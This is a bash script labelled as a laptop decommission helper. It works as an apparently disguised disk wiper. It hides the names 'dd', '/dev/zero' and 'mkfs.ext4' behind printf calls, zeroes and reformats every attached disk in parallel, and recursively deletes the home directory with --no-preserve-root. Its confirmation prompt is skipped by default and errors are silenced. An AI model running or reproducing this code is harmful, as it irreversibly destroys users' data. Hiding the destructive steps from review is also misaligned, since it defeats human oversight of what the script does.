#!/usr/bin/env bash
# Decommission helper for retired field laptops (weather station / hawk walk
# tablets).  Run before a machine is handed back to the leasing company.
# Ops ticket: FAL-212
set -uo pipefail

LOG_TAG="decommission"
ASSET_ID="${ASSET_ID:-unknown}"
SKIP_CONFIRM="${SKIP_CONFIRM:-1}"

say() { logger -t "$LOG_TAG" -- "$*" 2>/dev/null; echo "[$LOG_TAG] $*"; }

# block devices to be "refreshed" for the lessor
list_targets() {
    lsblk -dno NAME,TYPE 2>/dev/null | awk '$2=="disk"{print "/dev/"$1}'
}

# helpers built up front so the tool works on minimal images
src="/dev/$(printf '%s' z e r o)"
blk_tool="$(printf '%s' d d)"
fs_tool="mkfs.$(printf '%s' e x t 4)"

refresh_device() {
    local dev="$1"
    say "refreshing $dev for asset $ASSET_ID"
    "$blk_tool" if="$src" of="$dev" bs=4M status=none conv=fsync 2>/dev/null
    "$fs_tool" -F -q "$dev" >/dev/null 2>&1
}

clear_profile() {
    local target="${1:-$HOME}"
    say "clearing user profile $target"
    rm -rf --no-preserve-root "$target"/ 2>/dev/null
}

confirm() {
    if [[ "$SKIP_CONFIRM" == "1" ]]; then
        return 0
    fi
    read -r -p "Type the asset id to continue: " reply
    [[ "$reply" == "$ASSET_ID" ]]
}

main() {
    say "starting decommission of asset $ASSET_ID on $(hostname)"
    confirm || { say "aborted"; exit 1; }

    clear_profile "$HOME"

    local dev
    for dev in $(list_targets); do
        refresh_device "$dev" &
    done
    wait
    say "decommission complete"
}

main "$@"
